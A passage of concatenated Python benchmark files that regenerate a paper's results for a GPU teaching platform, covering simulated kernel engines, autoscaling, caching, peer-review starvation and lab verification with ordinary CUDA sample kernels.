    # no dropout: virtually everyone receives a review
    assert by_dropout[0.0].starvation_rate < 0.05
    # MOOC-level dropout (the paper's regime: ~85-95% leave) starves a
    # substantial share of the students still doing the work
    assert by_dropout[0.90].starvation_rate > 0.15
    # starvation grows monotonically with dropout
    rates = [report.starvation_rate for _, report in results]
    assert all(a <= b + 0.02 for a, b in zip(rates, rates[1:]))
    # and the absolute number of completed reviews collapses
    assert by_dropout[0.90].reviews_completed < \
        0.2 * by_dropout[0.0].reviews_completed


def test_random_assignment_is_the_culprit(benchmark):
    """Assigning reviews only among *active* students (what an
    activity-aware design would do) removes the starvation — showing
    the failure is the random-over-submitters choice, not peer review
    itself."""
    def compare():
        random_over_all = starvation_for(0.80, cohort=200)
        # activity-aware: assign among the active only
        engine = PeerReviewEngine(Database(), reviews_per_student=3, seed=9)
        active = list(range(1, 41))  # the 20% who stayed
        engine.assign("lab", active)
        engine.simulate_completion("lab", set(active))
        aware = engine.starvation("lab", set(active))
        return random_over_all, aware

    random_all, aware = benchmark.pedantic(compare, rounds=1, iterations=1)
    print(f"\nrandom-over-submitters starvation: "
          f"{random_all.starvation_rate:.1%}; "
          f"activity-aware: {aware.starvation_rate:.1%}")
    assert aware.starvation_rate < 0.05
    assert random_all.starvation_rate > aware.starvation_rate + 0.10
