"""Ablation: the BFS lab's subject — "Hierarchical queuing performance
effects" (Table II row description).

Compares the straightforward global work queue (every discovered node
pays an atomicAdd on the single global tail) against the hierarchical
version (block-local shared-memory queue flushed once per block): the
global-tail contention collapses, and the kernel gets faster, while
the traversal result is identical.
"""

import dataclasses

from conftest import print_table

from repro.labs import execute_lab_source, get_lab
from repro.labs.irregular import BFS_HIERARCHICAL_SOLUTION


def run_pair(size: int):
    lab = dataclasses.replace(get_lab("bfs-queuing"),
                              dataset_sizes=(size,))
    data = lab.dataset(0)
    global_q = execute_lab_source(lab, lab.solution, data)
    hier_q = execute_lab_source(lab, BFS_HIERARCHICAL_SOLUTION, data)
    return global_q, hier_q


def test_hierarchical_queue_cuts_global_contention(benchmark):
    global_q, hier_q = benchmark.pedantic(
        lambda: run_pair(200), rounds=1, iterations=1)

    def contention(result):
        return max(s.max_atomic_contention for s in result.kernel_stats)

    def shared_contention(result):
        return max(s.max_shared_atomic_contention
                   for s in result.kernel_stats)

    rows = [
        {"queue": "global tail",
         "global_contention": contention(global_q),
         "shared_contention": shared_contention(global_q),
         "kernel_us": round(global_q.kernel_seconds * 1e6, 1)},
        {"queue": "hierarchical (block-local)",
         "global_contention": contention(hier_q),
         "shared_contention": shared_contention(hier_q),
         "kernel_us": round(hier_q.kernel_seconds * 1e6, 1)},
    ]
    print_table("BFS queuing: global vs hierarchical (200-node graph)",
                rows)

    # both traversals are correct
    assert global_q.passed and hier_q.passed
    # the global-tail hot spot collapses: one flush per block instead of
    # one atomicAdd per discovered node
    assert contention(hier_q) < contention(global_q) / 4
    # the contention moved into (cheap) shared memory
    assert shared_contention(hier_q) >= contention(global_q) / 2
    # and the timing model rewards it
    assert hier_q.kernel_seconds < global_q.kernel_seconds


def test_results_identical_across_sizes(benchmark):
    def run():
        outcomes = []
        for size in (16, 48, 120):
            global_q, hier_q = run_pair(size)
            outcomes.append((size, global_q.passed, hier_q.passed))
        return outcomes

    outcomes = benchmark.pedantic(run, rounds=1, iterations=1)
    print("\nBFS correctness across graph sizes:", outcomes)
    assert all(g and h for _, g, h in outcomes)
