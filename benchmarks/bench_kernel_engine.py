"""Kernel execution engines: compiled backends vs tree-walking.

The grading path spends most of its simulated-GPU time inside
``repro.minicuda``'s kernel interpreter. Three compiled engines lower
each kernel's checked AST once per program: ``closure``
(:mod:`repro.minicuda.codegen`) into nested Python closures,
``codegen`` (:mod:`repro.minicuda.srcgen`) into generated Python
source compiled with :func:`compile` — straight-line bytecode, flat
2-D shared indexing, hoisted builtins — and ``simd``
(:mod:`repro.minicuda.simd`) into warp-wide numpy array programs
where each instruction executes over the warp's active-lane vector
and divergent branches run both arms under lane masks.

This benchmark runs four canonical course kernels (vector add, tiled
matrix multiply, histogram with shared-memory privatization, and a
block reduction) under all engines, requires every profiling counter
to be bit-identical, and records the speedups in
``BENCH_kernel_engine.json``.

Acceptance at full sizing: closure >= 3x over the tree-walker on
tiled matmul; codegen >= 10x on tiled matmul AND reduction; simd
>= 25x over the tree-walker and >= 2x over codegen on tiled matmul
AND reduction. The ``WEBGPU_BENCH_FAST=1`` CI smoke sizing uses
conservative floors (compile time is a bigger share of the tiny
runs).
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import numpy as np

from conftest import print_table

from repro.gpusim import Device, GpuRuntime
from repro.gpusim.grid import Dim3
from repro.minicuda import ENGINES, compile_source

FAST = bool(os.environ.get("WEBGPU_BENCH_FAST"))
MATMUL_FLOOR = 2.0 if FAST else 3.0
#: codegen floors on (tiled_matmul, reduction)
CODEGEN_FLOOR = 3.0 if FAST else 10.0
#: simd-vs-ast floors on (tiled_matmul, reduction)
SIMD_FLOOR = 20.0 if FAST else 25.0
#: simd-vs-codegen floors on (tiled_matmul, reduction)
SIMD_VS_CODEGEN_FLOOR = 2.0

#: problem sizes: (vecadd n, matmul n, histogram n, reduction n)
SIZES = (2_048, 24, 2_048, 2_048) if FAST else (16_384, 64, 16_384, 16_384)

STAT_FIELDS = (
    "blocks", "threads", "warps", "instructions",
    "global_load_requests", "global_store_requests",
    "global_load_transactions", "global_store_transactions",
    "bytes_read", "bytes_written", "shared_accesses", "bank_conflicts",
    "atomic_ops", "max_atomic_contention", "max_shared_atomic_contention",
    "barriers",
)

VECADD = """
__global__ void vecadd(float *a, float *b, float *c, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
int main() { return 0; }
"""

MATMUL = """
#define TILE 8
__global__ void matmul(float *A, float *B, float *C, int n) {
  __shared__ float As[TILE][TILE];
  __shared__ float Bs[TILE][TILE];
  int row = blockIdx.y * TILE + threadIdx.y;
  int col = blockIdx.x * TILE + threadIdx.x;
  float acc = 0.0f;
  for (int t = 0; t < n / TILE; t++) {
    As[threadIdx.y][threadIdx.x] = A[row * n + t * TILE + threadIdx.x];
    Bs[threadIdx.y][threadIdx.x] = B[(t * TILE + threadIdx.y) * n + col];
    __syncthreads();
    for (int k = 0; k < TILE; k++)
      acc += As[threadIdx.y][k] * Bs[k][threadIdx.x];
    __syncthreads();
  }
  C[row * n + col] = acc;
}
int main() { return 0; }
"""

HISTOGRAM = """
#define BINS 32
__global__ void hist(int *in, int *out, int n) {
  __shared__ int local[BINS];
  if (threadIdx.x < BINS) local[threadIdx.x] = 0;
  __syncthreads();
  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n;
       i += blockDim.x * gridDim.x)
    atomicAdd(&local[in[i] % BINS], 1);
  __syncthreads();
  if (threadIdx.x < BINS) atomicAdd(&out[threadIdx.x], local[threadIdx.x]);
}
int main() { return 0; }
"""

REDUCTION = """
__global__ void reduce(float *in, float *out, int n) {
  __shared__ float scratch[128];
  int tid = threadIdx.x;
  float acc = 0.0f;
  for (int i = blockIdx.x * blockDim.x + tid; i < n;
       i += blockDim.x * gridDim.x)
    acc += in[i];
  scratch[tid] = acc;
  __syncthreads();
  for (int s = blockDim.x / 2; s > 0; s = s / 2) {
    if (tid < s) scratch[tid] += scratch[tid + s];
    __syncthreads();
  }
  if (tid == 0) atomicAdd(&out[0], scratch[0]);
}
int main() { return 0; }
"""


def _run_case(source, kernel, grid, block, buf_specs, scalars, engine):
    """Best-of-reps launch; returns (wall s, KernelStats, outputs).

    Launches are deterministic, so repeats exist only to tame wall
    clock noise: short runs repeat (up to 3x) until ~1s of total
    measurement, long runs pay a single rep. The reported wall is the
    minimum — the run least disturbed by the host.
    """
    wall = float("inf")
    elapsed = 0.0
    for _ in range(3):
        program = compile_source(source)
        rt = GpuRuntime(Device())
        bufs = []
        for n, dtype, init in buf_specs:
            buf = rt.malloc(n, dtype)
            if init is not None:
                rt.memcpy_htod(buf, init)
            bufs.append(buf)
        args = [b.ptr() for b in bufs] + list(scalars)
        t0 = time.perf_counter()
        stats = program.launch(rt, kernel, grid, block, *args, engine=engine)
        rep = time.perf_counter() - t0
        wall = min(wall, rep)
        elapsed += rep
        if elapsed >= 1.0:
            break
    return wall, stats, [rt.memcpy_dtoh(b) for b in bufs]


def _cases():
    va_n, mm_n, h_n, r_n = SIZES
    a = (np.arange(va_n, dtype=np.float32) % 13)
    b = (np.arange(va_n, dtype=np.float32) % 7)
    A = (np.arange(mm_n * mm_n, dtype=np.float32) % 7)
    B = (np.arange(mm_n * mm_n, dtype=np.float32) % 5)
    hist_in = ((np.arange(h_n, dtype=np.int32) * 131) % 1009).astype(np.int32)
    red_in = np.ones(r_n, dtype=np.float32)
    return [
        ("vecadd", VECADD, "vecadd", (va_n + 127) // 128, 128,
         [(va_n, np.float32, a), (va_n, np.float32, b),
          (va_n, np.float32, None)], [va_n]),
        ("tiled_matmul", MATMUL, "matmul",
         Dim3(mm_n // 8, mm_n // 8), Dim3(8, 8),
         [(mm_n * mm_n, np.float32, A), (mm_n * mm_n, np.float32, B),
          (mm_n * mm_n, np.float32, None)], [mm_n]),
        ("histogram", HISTOGRAM, "hist", 8, 128,
         [(h_n, np.int32, hist_in),
          (32, np.int32, np.zeros(32, np.int32))], [h_n]),
        ("reduction", REDUCTION, "reduce", 8, 128,
         [(r_n, np.float32, red_in),
          (1, np.float32, np.zeros(1, np.float32))], [r_n]),
    ]


def test_kernel_engine_speedup():
    rows = []
    record = {"fast_mode": FAST, "sizes": list(SIZES), "kernels": {}}
    for name, source, kernel, grid, block, bufs, scalars in _cases():
        per_engine = {}
        for engine in ENGINES:
            wall, stats, outs = _run_case(source, kernel, grid, block,
                                          bufs, scalars, engine)
            per_engine[engine] = (wall, stats, outs)
        wall_ast, stats_ast, outs_ast = per_engine["ast"]
        # every compiled engine must be a perfect stand-in for the
        # tree-walker: every profiled counter identical, every output
        # array identical
        for engine in ENGINES:
            if engine == "ast":
                continue
            _, stats_eng, outs_eng = per_engine[engine]
            for fld in STAT_FIELDS:
                assert getattr(stats_ast, fld) == getattr(stats_eng, fld), \
                    f"{name}/{engine}: {fld} diverged"
            for arr_ast, arr_eng in zip(outs_ast, outs_eng):
                assert np.array_equal(arr_ast, arr_eng), \
                    f"{name}/{engine}: output diverged"
        wall_cl = per_engine["closure"][0]
        wall_cg = per_engine["codegen"][0]
        wall_sd = per_engine["simd"][0]
        speedup = wall_ast / wall_cl
        cg_speedup = wall_ast / wall_cg
        sd_speedup = wall_ast / wall_sd
        rows.append({
            "kernel": name,
            "ast_s": f"{wall_ast:.3f}",
            "closure_s": f"{wall_cl:.3f}",
            "codegen_s": f"{wall_cg:.3f}",
            "simd_s": f"{wall_sd:.3f}",
            "closure_x": f"{speedup:.2f}x",
            "codegen_x": f"{cg_speedup:.2f}x",
            "simd_x": f"{sd_speedup:.2f}x",
            "instructions": stats_ast.instructions,
            "stats": "identical",
        })
        record["kernels"][name] = {
            "ast_seconds": wall_ast,
            "closure_seconds": wall_cl,
            "codegen_seconds": wall_cg,
            "simd_seconds": wall_sd,
            "speedup": speedup,
            "codegen_speedup": cg_speedup,
            "simd_speedup": sd_speedup,
            "simd_vs_codegen": wall_cg / wall_sd,
            "instructions": stats_ast.instructions,
            "stats_identical": True,
        }

    print_table("Kernel engines: tree-walker vs closure vs codegen vs simd",
                rows)
    out_path = Path(__file__).resolve().parent.parent / \
        "BENCH_kernel_engine.json"
    out_path.write_text(json.dumps(record, indent=2) + "\n")

    matmul_speedup = record["kernels"]["tiled_matmul"]["speedup"]
    assert matmul_speedup >= MATMUL_FLOOR, (
        f"closure engine only {matmul_speedup:.2f}x on tiled matmul "
        f"(floor {MATMUL_FLOOR}x)")
    for kernel in ("tiled_matmul", "reduction"):
        cg = record["kernels"][kernel]["codegen_speedup"]
        assert cg >= CODEGEN_FLOOR, (
            f"codegen engine only {cg:.2f}x on {kernel} "
            f"(floor {CODEGEN_FLOOR}x)")
        sd = record["kernels"][kernel]["simd_speedup"]
        assert sd >= SIMD_FLOOR, (
            f"simd engine only {sd:.2f}x on {kernel} "
            f"(floor {SIMD_FLOOR}x)")
        sd_cg = record["kernels"][kernel]["simd_vs_codegen"]
        assert sd_cg >= SIMD_VS_CODEGEN_FLOOR, (
            f"simd engine only {sd_cg:.2f}x over codegen on {kernel} "
            f"(floor {SIMD_VS_CODEGEN_FLOOR}x)")
    # every kernel must at least not regress under any compiled engine
    for name, entry in record["kernels"].items():
        assert entry["speedup"] > 1.0, f"{name} slower under closure engine"
        assert entry["codegen_speedup"] > 1.0, \
            f"{name} slower under codegen engine"
        assert entry["simd_speedup"] > 1.0, \
            f"{name} slower under simd engine"


if __name__ == "__main__":
    test_kernel_engine_speedup()
