"""Section I/III claims: "The number of GPUs available through WebGPU
can be dramatically fewer than the expected number of concurrent
users", and elastic provisioning beats static over a full offering.

Two sweeps over the HPP-2015 workload trace:
  1. oversubscription: users-per-GPU ratio vs queue wait;
  2. provisioning: static-for-peak vs reactive vs deadline-aware
     autoscaling — GPU-hours and p95 wait.
"""

from conftest import print_table

from repro.cluster.scaling import DeadlineAwareScaler, ReactiveAutoscaler
from repro.simulate import HPP_2015, StudentPopulation
from repro.simulate.workload import (
    jobs_from_activity,
    sample_service_times,
    simulate_fleet,
)

_CACHE = {}


def workload():
    if "trace" not in _CACHE:
        population = StudentPopulation(HPP_2015.figure1_population_params())
        result = population.generate()
        arrivals = jobs_from_activity(result.hourly_active, seed=42)
        services = sample_service_times(len(arrivals), seed=43)
        _CACHE["trace"] = (result, arrivals, services)
    return _CACHE["trace"]


def test_oversubscription_sweep(benchmark):
    result, arrivals, services = workload()
    peak_users = result.hourly_active.peak

    def sweep():
        rows = []
        for workers in (1, 2, 4, 8, 16):
            fleet = simulate_fleet(arrivals, services, num_workers=workers)
            rows.append({
                "gpus": workers,
                "users_per_gpu_at_peak": round(peak_users / workers, 1),
                "mean_wait_s": round(fleet.mean_wait, 2),
                "p95_wait_s": round(fleet.p95_wait, 2),
                "utilization": round(fleet.utilization, 3),
            })
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
    print_table("Oversubscription: users per GPU vs queue wait", rows)

    by_gpus = {r["gpus"]: r for r in rows}
    # the headline claim: even at ~28 users per GPU (4 GPUs for a
    # 112-user peak) the p95 wait stays interactive (< 60 s)
    assert by_gpus[4]["users_per_gpu_at_peak"] > 20
    assert by_gpus[4]["p95_wait_s"] < 60.0
    # a single GPU, however, is saturated at the Wednesday peak
    assert by_gpus[1]["p95_wait_s"] > by_gpus[16]["p95_wait_s"]
    # waits decrease monotonically with fleet size
    waits = [r["p95_wait_s"] for r in rows]
    assert all(a >= b for a, b in zip(waits, waits[1:]))


def test_static_vs_autoscaled_provisioning(benchmark):
    result, arrivals, services = workload()

    def compare():
        static = simulate_fleet(arrivals, services, num_workers=8)

        reactive = ReactiveAutoscaler(target_utilization=0.6, min_workers=1,
                                      max_workers=16, cooldown_s=0.0)
        scaled = simulate_fleet(
            arrivals, services,
            scaler=lambda now, demand, cur: reactive.target_workers(
                now, demand, cur).target,
            scale_interval_s=3600.0)

        deadlines = tuple((week * 7 + 4) * 86400.0 for week in range(10))
        aware = DeadlineAwareScaler(
            base=ReactiveAutoscaler(target_utilization=0.6, min_workers=1,
                                    max_workers=16, cooldown_s=0.0),
            deadlines=deadlines, boost_workers=6)
        boosted = simulate_fleet(
            arrivals, services,
            scaler=lambda now, demand, cur: aware.target_workers(
                now, demand, cur).target,
            scale_interval_s=3600.0)
        return static, scaled, boosted

    static, scaled, boosted = benchmark.pedantic(compare, rounds=1,
                                                 iterations=1)
    rows = [
        {"policy": "static (8 GPUs for the peak)",
         "gpu_hours": round(static.gpu_hours),
         "p95_wait_s": round(static.p95_wait, 2),
         "utilization": round(static.utilization, 3)},
        {"policy": "reactive autoscaler",
         "gpu_hours": round(scaled.gpu_hours),
         "p95_wait_s": round(scaled.p95_wait, 2),
         "utilization": round(scaled.utilization, 3)},
        {"policy": "deadline-aware (paper's practice)",
         "gpu_hours": round(boosted.gpu_hours),
         "p95_wait_s": round(boosted.p95_wait, 2),
         "utilization": round(boosted.utilization, 3)},
    ]
    print_table("Provisioning policies over the HPP-2015 trace", rows)

    # the paper's complaint about static provisioning: "mostly idle by
    # the end of the course" -> low utilization, many wasted GPU-hours
    assert static.utilization < 0.25
    # elastic fleets cut GPU-hours by a large factor at modest wait cost
    assert scaled.gpu_hours < 0.5 * static.gpu_hours
    assert boosted.gpu_hours < 0.6 * static.gpu_hours
    assert scaled.utilization > static.utilization
    # the deadline boost buys a better p95 than pure reactive scaling
    assert boosted.p95_wait <= scaled.p95_wait * 1.5 + 5.0
