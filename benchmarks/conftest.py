"""Shared helpers for the paper-artifact benchmarks.

Every benchmark regenerates one table or figure from the paper and
checks its *shape* against the published values (who wins, by what
rough factor, where the extremes fall) — absolute numbers differ
because the substrate is a simulator, not the authors' AWS testbed.

Run with: ``pytest benchmarks/ --benchmark-only``
"""

from __future__ import annotations


def print_table(title: str, rows: list[dict], order: list[str] | None = None):
    """Render a list of dicts as an aligned text table to stdout."""
    if not rows:
        print(f"\n== {title} ==\n(no rows)")
        return
    keys = order or list(rows[0])
    widths = {k: max(len(str(k)), *(len(str(r.get(k, ""))) for r in rows))
              for k in keys}
    header = "  ".join(str(k).ljust(widths[k]) for k in keys)
    print(f"\n== {title} ==")
    print(header)
    print("-" * len(header))
    for row in rows:
        print("  ".join(str(row.get(k, "")).ljust(widths[k]) for k in keys))
