"""Resubmission-storm replay: grading throughput with caching on/off.

Section IV-C observes that students iterate rapidly near deadlines,
resubmitting the same (or nearly the same) program many times; the
attempts histogram (Figure 4) shows a long tail of repeat submissions.
The content-addressed result cache (``repro.cache``) deduplicates that
work: identical ``(program, lab-config, requirements)`` tuples are
answered from the cache without occupying a container slot.

This benchmark replays a storm where most submissions are duplicates
and compares simulated grading throughput with the cache enabled vs
disabled.  Acceptance: >= 5x on a >= 50%-duplicate workload, with the
hit rate visible in the dashboard snapshot.
"""

from conftest import print_table

from repro.broker import ConfigServer, ContainerPool, MessageBroker, WorkerDriver
from repro.broker.containers import CUDA_IMAGE
from repro.broker.dashboard import Dashboard
from repro.cluster import GpuWorker, ManualClock, PlatformCaches, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.db import Database
from repro.labs import get_lab

VECADD = get_lab("vector-add")

UNIQUE_PROGRAMS = 8
SUBMISSIONS = 120          # ~93% duplicates — well above the 50% floor


def storm_sources() -> list[str]:
    """A deadline storm: 8 distinct programs, resubmitted over and over."""
    variants = [VECADD.solution] + [
        VECADD.solution + f"\n// attempt marker {i}\n"
        for i in range(1, UNIQUE_PROGRAMS)]
    return [variants[i % UNIQUE_PROGRAMS] for i in range(SUBMISSIONS)]


def replay(cache_enabled: bool):
    clock = ManualClock()
    caches = PlatformCaches(clock=clock) if cache_enabled else None
    broker = MessageBroker()
    metrics = Database("metrics")
    drivers = []
    for i in range(2):
        worker = GpuWorker(
            WorkerConfig(), clock=clock, name=f"worker-{i + 1}",
            compile_cache=caches.compile if caches else None)
        drivers.append(WorkerDriver(
            worker, broker, ContainerPool([CUDA_IMAGE], warm_per_image=2),
            ConfigServer(), metrics, clock=clock,
            result_cache=caches.results if caches else None))

    results = []
    for n, source in enumerate(storm_sources()):
        broker.publish(Job(lab=VECADD, source=source,
                           kind=JobKind.FULL_GRADING,
                           user=f"student-{n % 40}",
                           submitted_at=clock.now()), clock.now())
        result = drivers[n % len(drivers)].step()
        assert result is not None
        results.append(result)
        clock.advance(1.0)

    grading_seconds = sum(r.service_seconds + r.extra["container_s"]
                          for r in results)
    dashboard = Dashboard(metrics, broker, caches=caches)
    return {
        "jobs": len(results),
        "grading_seconds": grading_seconds,
        "throughput_jobs_per_min": 60.0 * len(results) / grading_seconds,
        "dashboard": dashboard,
    }


def test_cache_resubmission_storm(benchmark):
    def run():
        return {"off": replay(cache_enabled=False),
                "on": replay(cache_enabled=True)}

    out = benchmark.pedantic(run, rounds=1, iterations=1)
    off, on = out["off"], out["on"]
    speedup = (on["throughput_jobs_per_min"]
               / off["throughput_jobs_per_min"])
    dup_fraction = 1.0 - UNIQUE_PROGRAMS / SUBMISSIONS

    rows = []
    for label, res in (("cache off", off), ("cache on", on)):
        rows.append({
            "config": label,
            "jobs": res["jobs"],
            "grading_s": round(res["grading_seconds"], 1),
            "jobs_per_min": round(res["throughput_jobs_per_min"], 1),
        })
    print_table(
        f"Resubmission storm ({SUBMISSIONS} submissions, "
        f"{UNIQUE_PROGRAMS} unique programs, "
        f"{dup_fraction:.0%} duplicates)", rows)
    print(f"\nspeedup: {speedup:.1f}x")
    print()
    print(on["dashboard"].render())

    # acceptance: >= 5x throughput on a >= 50%-duplicate workload
    assert dup_fraction >= 0.5
    assert speedup >= 5.0

    # the hit rate is visible in the dashboard snapshot
    snap = on["dashboard"].snapshot()
    per_worker = snap["cache"]["hit_rate_per_worker"]
    assert per_worker and min(per_worker.values()) > 0.5
    assert snap["cache"]["stats"]["results"]["hit_rate"] > 0.5
    assert "cache hit-rate" in on["dashboard"].render()

    # cache off: every submission was graded from scratch
    cold = off["dashboard"].snapshot()["cache"]["hit_rate_per_worker"]
    assert all(rate == 0.0 for rate in cold.values())
