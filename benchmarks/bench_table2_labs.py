"""Table II: the fifteen WebGPU-hosted labs and their course matrix.

Regenerates the table and proves every lab is *deliverable*: each
reference solution compiles and passes every graded dataset through the
full worker path (sandbox + minicuda + gpusim).
"""

from conftest import print_table

from repro.labs import ALL_LABS, COURSES, course_matrix, execute_lab_source


def run_all_labs():
    outcomes = {}
    for lab in ALL_LABS:
        passes = 0
        for index in range(len(lab.dataset_sizes)):
            result = execute_lab_source(lab, lab.solution, lab.dataset(index))
            passes += int(result.passed)
        outcomes[lab.slug] = (passes, len(lab.dataset_sizes))
    return outcomes


def test_table2_lab_course_matrix(benchmark):
    outcomes = benchmark.pedantic(run_all_labs, rounds=1, iterations=1)

    rows = []
    for lab, (title, marks) in zip(ALL_LABS, course_matrix()):
        passed, total = outcomes[lab.slug]
        row = {"lab": title}
        for course in COURSES:
            row[course] = "x" if marks[course] else ""
        row["datasets"] = f"{passed}/{total}"
        rows.append(row)
    print_table("Table II — labs x courses (+ solution verification)", rows,
                order=["lab"] + list(COURSES) + ["datasets"])

    # every solution passes every dataset
    for slug, (passed, total) in outcomes.items():
        assert passed == total, f"{slug}: {passed}/{total}"
    # the published structure: 15 labs, HPP is the introductory track,
    # 598 carries the advanced algorithmic labs, PUMPS gets MPI
    assert len(ALL_LABS) == 15
    matrix = dict(course_matrix())
    assert sum(m["HPP"] for m in matrix.values()) == 8
    assert matrix["Multi-GPU Stencil with MPI"]["PUMPS"]
    assert not matrix["Multi-GPU Stencil with MPI"]["HPP"]
    assert matrix["SGEMM"]["598"] and not matrix["SGEMM"]["408"]
