"""Cost of the per-source-line profiler across every kernel engine.

The profiler attributes every instruction, memory transaction, bank
conflict, atomic, and divergence event to the source line that caused
it (:mod:`repro.profiler`). That attribution is pay-for-what-you-use:
launches without ``profile=True`` must not touch the ledger path at
all, and profiled launches should cost a bounded multiple of the
unprofiled run — the profile is built from the same per-access stream
the engines already emit for KernelStats, not a second execution.

This benchmark runs tiled matmul and a block reduction on all four
engines, profiled vs unprofiled, checks ledgers stay bit-identical
across engines, and records the slowdowns in ``BENCH_profiler.json``.
No hard floor on the profiled multiple: the simd engine executes a
warp per instruction but the ledger still charges per line, so its
relative overhead is structurally larger — the JSON is the artifact.
The invariant asserted here is correctness: identical outputs with
and without profiling, identical ledgers across engines, and a
non-empty ledger covering every counter the kernels exercise.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import numpy as np

from conftest import print_table

from repro.gpusim import Device, GpuRuntime
from repro.gpusim.grid import Dim3
from repro.minicuda import ENGINES, compile_source

FAST = bool(os.environ.get("WEBGPU_BENCH_FAST"))

#: problem sizes: (matmul n, reduction n)
SIZES = (24, 2_048) if FAST else (48, 8_192)

MATMUL = """
#define TILE 8
__global__ void matmul(float *A, float *B, float *C, int n) {
  __shared__ float As[TILE][TILE];
  __shared__ float Bs[TILE][TILE];
  int row = blockIdx.y * TILE + threadIdx.y;
  int col = blockIdx.x * TILE + threadIdx.x;
  float acc = 0.0f;
  for (int t = 0; t < n / TILE; t++) {
    As[threadIdx.y][threadIdx.x] = A[row * n + t * TILE + threadIdx.x];
    Bs[threadIdx.y][threadIdx.x] = B[(t * TILE + threadIdx.y) * n + col];
    __syncthreads();
    for (int k = 0; k < TILE; k++)
      acc += As[threadIdx.y][k] * Bs[k][threadIdx.x];
    __syncthreads();
  }
  C[row * n + col] = acc;
}
int main() { return 0; }
"""

REDUCTION = """
__global__ void reduce(float *in, float *out, int n) {
  __shared__ float scratch[128];
  int tid = threadIdx.x;
  float acc = 0.0f;
  for (int i = blockIdx.x * blockDim.x + tid; i < n;
       i += blockDim.x * gridDim.x)
    acc += in[i];
  scratch[tid] = acc;
  __syncthreads();
  for (int s = blockDim.x / 2; s > 0; s = s / 2) {
    if (tid < s) scratch[tid] += scratch[tid + s];
    __syncthreads();
  }
  if (tid == 0) atomicAdd(&out[0], scratch[0]);
}
int main() { return 0; }
"""


def _cases():
    mm_n, r_n = SIZES
    A = (np.arange(mm_n * mm_n, dtype=np.float32) % 7)
    B = (np.arange(mm_n * mm_n, dtype=np.float32) % 5)
    red_in = np.ones(r_n, dtype=np.float32)
    return [
        ("tiled_matmul", MATMUL, "matmul",
         Dim3(mm_n // 8, mm_n // 8), Dim3(8, 8),
         [(mm_n * mm_n, np.float32, A), (mm_n * mm_n, np.float32, B),
          (mm_n * mm_n, np.float32, None)], [mm_n]),
        ("reduction", REDUCTION, "reduce", 8, 128,
         [(r_n, np.float32, red_in),
          (1, np.float32, np.zeros(1, np.float32))], [r_n]),
    ]


def _run_case(source, kernel, grid, block, buf_specs, scalars, engine,
              profile):
    """Best-of-reps launch; returns (wall s, stats, outputs)."""
    wall = float("inf")
    elapsed = 0.0
    for _ in range(3):
        program = compile_source(source)
        rt = GpuRuntime(Device())
        bufs = []
        for n, dtype, init in buf_specs:
            buf = rt.malloc(n, dtype)
            if init is not None:
                rt.memcpy_htod(buf, init)
            bufs.append(buf)
        args = [b.ptr() for b in bufs] + list(scalars)
        t0 = time.perf_counter()
        stats = program.launch(rt, kernel, grid, block, *args,
                               engine=engine, profile=profile)
        rep = time.perf_counter() - t0
        wall = min(wall, rep)
        elapsed += rep
        if elapsed >= 1.0:
            break
    return wall, stats, [rt.memcpy_dtoh(b) for b in bufs]


def test_profiler_cost():
    rows = []
    record = {"fast_mode": FAST, "sizes": list(SIZES), "kernels": {}}
    for name, source, kernel, grid, block, bufs, scalars in _cases():
        ledgers = {}
        entry = {}
        for engine in ENGINES:
            wall_off, stats_off, outs_off = _run_case(
                source, kernel, grid, block, bufs, scalars, engine, False)
            wall_on, stats_on, outs_on = _run_case(
                source, kernel, grid, block, bufs, scalars, engine, True)
            # unprofiled launches never build a ledger
            assert stats_off.line_profile is None, (name, engine)
            assert stats_on.line_profile is not None, (name, engine)
            # profiling must not perturb results or whole-kernel counts
            for a, b in zip(outs_off, outs_on):
                assert np.array_equal(a, b), (name, engine)
            assert stats_off.instructions == stats_on.instructions, \
                (name, engine)
            ledgers[engine] = stats_on.line_profile
            multiple = wall_on / wall_off if wall_off else float("inf")
            entry[engine] = {
                "unprofiled_s": round(wall_off, 4),
                "profiled_s": round(wall_on, 4),
                "multiple": round(multiple, 2),
            }
            rows.append({
                "kernel": name, "engine": engine,
                "unprofiled_s": f"{wall_off:.3f}",
                "profiled_s": f"{wall_on:.3f}",
                "multiple": f"{multiple:.2f}x",
            })
        # the ledger itself is part of the parity contract
        reference = ledgers["ast"]
        assert reference.total_instructions > 0, name
        for engine in ENGINES:
            assert ledgers[engine] == reference, (name, engine)
        record["kernels"][name] = entry
    print_table("per-line profiler cost (profiled vs unprofiled)", rows)
    out_path = Path(__file__).resolve().parent.parent / \
        "BENCH_profiler.json"
    out_path.write_text(json.dumps(record, indent=2) + "\n")


if __name__ == "__main__":
    test_profiler_cost()
