"""Figure 2: the original architecture — web-server push dispatch,
database, worker pool, health checks.

Exercises a submission burst end-to-end through the v1 platform and
verifies the architecture's properties: jobs spread across workers,
results stored and relayed, unhealthy workers evicted without losing
service.
"""

from conftest import print_table

from repro.cluster import FaultInjector, ManualClock
from repro.core import WebGPU
from repro.core.course import CourseOffering
from repro.labs import get_lab

VECADD = get_lab("vector-add")


def submission_burst(platform, clock, students, runs_per_student=2):
    correct = 0
    for student in students:
        for r in range(runs_per_student):
            clock.advance(30.0)
            attempt = platform.run_attempt("HPP-2015", student,
                                           "vector-add", r % 4)
            correct += int(attempt.correct)
    return correct


def make_platform(num_workers=4):
    clock = ManualClock()
    platform = WebGPU(clock=clock, num_workers=num_workers,
                      rate_per_minute=600.0)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    students = []
    for i in range(6):
        user = platform.users.register(f"u{i}@x.com", f"U{i}", "pw")
        course.enroll(user.user_id)
        platform.save_code("HPP-2015", user, "vector-add", VECADD.solution)
        students.append(user)
    return platform, clock, students


def test_fig2_push_dispatch_under_burst(benchmark):
    platform, clock, students = make_platform()
    correct = benchmark.pedantic(
        lambda: submission_burst(platform, clock, students),
        rounds=1, iterations=1)

    rows = [{"worker": name, "jobs": count}
            for name, count in sorted(
                platform.dispatcher.per_worker.items())]
    print_table("Figure 2 — v1 push dispatch distribution", rows)
    print(f"jobs total        : {platform.dispatcher.dispatched}")
    print(f"db pool peak in use: {platform.db_pool.peak_in_use}")

    assert correct == len(students) * 2
    # push spread the load across the whole pool
